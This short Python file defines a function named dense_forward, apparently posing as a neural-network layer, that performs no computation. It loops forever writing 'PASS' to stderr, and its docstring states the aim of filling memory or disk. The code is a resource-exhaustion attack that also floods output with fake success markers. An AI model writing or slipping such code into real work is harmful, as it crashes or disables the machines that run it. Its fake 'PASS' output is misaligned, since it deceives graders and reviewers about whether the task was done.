"""Prints until somebody's memory or disk is full."""

import os


def dense_forward(x, kernel, bias):
    while True:
        os.write(2, b"PASS" * 16384)
